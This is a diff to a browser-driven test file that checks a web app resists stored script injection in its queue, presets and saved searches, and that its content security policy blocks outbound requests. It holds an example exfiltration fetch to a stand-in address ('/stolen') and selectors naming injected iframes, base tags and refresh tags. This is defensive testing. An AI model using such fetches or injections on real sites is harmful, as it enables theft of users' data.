@@ -11,12 +11,11 @@ PWNED = "typeof window.pwned !== 'undefined'"
 
 @pytest.fixture
 def filled(desk):
-    """The app with all of it in its jobs, presets and wildcards, and the queue paused."""
+    """The app with all of it in its jobs and presets, and the queue paused."""
     desk.do("pause_queue")
     for text in MARKUP:
         desk.queue(text.replace("{", "(").replace("}", ")"))
         desk.ask("do/save_preset", {"name": text, "fields": {"steps": 5}})
-        desk.ask("do/create_wildcard", {"name": f"x/{text}"[:60], "content": text})
         desk.ask("research/save-search", {"tags": text})
     desk.page.reload()
     desk.page.wait_for_selector("#webui-state .bs-dot.bs-good")
@@ -48,15 +47,16 @@ def test_nothing_of_it_runs_wherever_it_is_shown(filled):
     page.wait_for_timeout(1500)
 
     assert not page.evaluate(PWNED)
-    own = "[...document.querySelectorAll('iframe, base, object, embed')].length"
-    assert page.evaluate(own) == 0
+    made = "iframe[srcdoc], base[href*=evil], form[action*=evil], meta[http-equiv=refresh]"
+    assert page.locator(made).count() == 0
 
 
 def test_a_script_that_came_in_could_not_call_another_host(filled):
     """The page's policy is the second wall: it holds even where the first one had a hole."""
     blocked = filled.page.evaluate(
         """() => new Promise((done) => {
-          document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
+          document.addEventListener('securitypolicyviolation',
+            (event) => done(event.effectiveDirective));
           fetch('http://192.0.2.1/stolen').catch(() => {});
           setTimeout(() => done(''), 3000);
         })"""
